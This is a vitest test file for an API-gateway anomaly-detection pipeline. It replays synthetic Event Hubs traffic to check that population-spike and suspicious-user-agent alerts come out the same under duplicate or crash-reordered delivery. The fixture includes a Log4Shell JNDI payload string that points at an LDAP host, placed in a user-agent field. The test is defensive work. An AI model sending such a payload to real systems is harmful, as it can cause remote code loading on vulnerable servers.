import { describe, expect, it } from "vitest";
import type { Alert } from "../../shared/alerts/alert.js";
import { defaultDetectionSettings } from "../../shared/config/detectionSettings.js";
import { loadSettings } from "../../shared/config/settings.js";
import { evaluateClosedWindows } from "../../shared/pipeline/evaluateWindows.js";
import { ingestEventHubBatch, type HubEvent } from "../../shared/pipeline/ingestEventHubBatch.js";
import { openPipeline, type Pipeline } from "../../shared/pipeline/openPipeline.js";
import type { AlertSink } from "../../shared/sinks/alertSink.js";
import { WINDOW_MS } from "../../shared/windows/window.js";
import { freshStorage } from "../support/azuriteTables.js";
import { envelope, gatewayLogRecord, spreadRequests } from "../support/gatewayLogs.js";

const DAY_MS = 24 * 60 * 60_000;
const FIRST_MS = Date.parse("2024-05-01T00:00:00Z");
const ATTACK_WINDOW_MS = FIRST_MS + DAY_MS + 10 * WINDOW_MS;
const LOG4SHELL = "${jndi:ldap://198.51.100.9:1389/a}";

/** A day and a half of steady traffic, then a flood and a Log4Shell probe, as Event Hubs events. */
function trafficEvents(): HubEvent[] {
  const events: HubEvent[] = [];
  for (
    let windowStartMs = FIRST_MS;
    windowStartMs <= ATTACK_WINDOW_MS;
    windowStartMs += WINDOW_MS
  ) {
    const flood = windowStartMs === ATTACK_WINDOW_MS;
    const records = spreadRequests(windowStartMs, flood ? 300 : 12);
    if (flood) {
      records.push(
        gatewayLogRecord({
          time: new Date(windowStartMs + 5_000).toISOString(),
          ip: "198.51.100.9",
          userAgent: LOG4SHELL,
          status: 404,
        }),
      );
    }
    events.push({ sequenceNumber: events.length, body: envelope(records) });
  }
  // The next window only moves event time on so the attack window closes.
  events.push({
    sequenceNumber: events.length,
    body: envelope(spreadRequests(ATTACK_WINDOW_MS + 2 * WINDOW_MS, 1)),
  });
  return events;
}

function recordingSink(sent: Alert[]): AlertSink {
  return {
    name: "recording",
    send: async (alerts) => {
      sent.push(...alerts);
      return { sent: alerts.length, failed: [] };
    },
  };
}

async function openTestPipeline(sent: Alert[]): Promise<Pipeline> {
  const settings = loadSettings({
    GATEWARDEN_DETECTION: JSON.stringify({ populationSpike: { minHistoryWindows: 72 } }),
  });
  return openPipeline(settings, freshStorage(), recordingSink(sent), "test");
}

/** Delivers the events in batches whose boundaries `batchSizes` gives, then evaluates. */
async function run(events: HubEvent[], deliveries: HubEvent[][]): Promise<Alert[]> {
  const sent: Alert[] = [];
  const pipeline = await openTestPipeline(sent);
  for (const batch of deliveries) {
    await ingestEventHubBatch(
      "0",
      batch,
      pipeline.parseOptions(Date.parse("2024-06-01T00:00:00Z")),
      pipeline.inspect,
      pipeline.ingest,
    );
  }
  const lastTimeMs = ATTACK_WINDOW_MS + 3 * WINDOW_MS;
  await evaluateClosedWindows(
    { eventTimeMs: lastTimeMs, wallTimeMs: Date.now() },
    pipeline.evaluation,
  );
  return sent;
}

function chunk<T>(items: T[], size: number): T[][] {
  return Array.from({ length: Math.ceil(items.length / size) }, (_, index) =>
    items.slice(index * size, (index + 1) * size),
  );
}

// Each case replays 110 windows through Azurite; on a loaded two-core machine that takes a while.
describe("exactly-once counting", { timeout: 180_000 }, () => {
  const events = trafficEvents();

  it("raises the population spike and the Log4Shell alert on a clean delivery", async () => {
    const alerts = await run(events, chunk(events, 10));

    // The flood comes from one client, so it is both a population and a single-client spike.
    expect(alerts.map((alert) => alert.alertType).sort()).toEqual([
      "API_AccessFromSuspiciousUserAgent",
      "API_PopulationSpikeInAPITraffic",
      "API_SpikeInAPITraffic",
    ]);
    const spike = alerts.find((alert) => alert.alertType === "API_PopulationSpikeInAPITraffic")!;
    expect(spike.observedValue).toBe(300);
    expect(spike.baselineValue).toBe(12);
    expect(defaultDetectionSettings().populationSpike.minHistoryWindows).toBe(72);
  });

  it("yields identical alerts when every batch is delivered twice", async () => {
    const clean = await run(events, chunk(events, 10));
    const batches = chunk(events, 10);
    const twice = await run(
      events,
      batches.flatMap((batch) => [batch, batch]),
    );

    expect(twice).toEqual(clean);
  });

  it("yields identical alerts when a crashed host gets its events back with other batch boundaries", async () => {
    const clean = await run(events, chunk(events, 10));
    // Batches of 10 up to event 40, then the host dies; the same events come back in batches of 7.
    const beforeCrash = chunk(events.slice(0, 40), 10);
    const afterCrash = chunk(events.slice(30), 7);
    const redelivered = await run(events, [...beforeCrash, ...afterCrash]);

    expect(redelivered).toEqual(clean);
  });
});
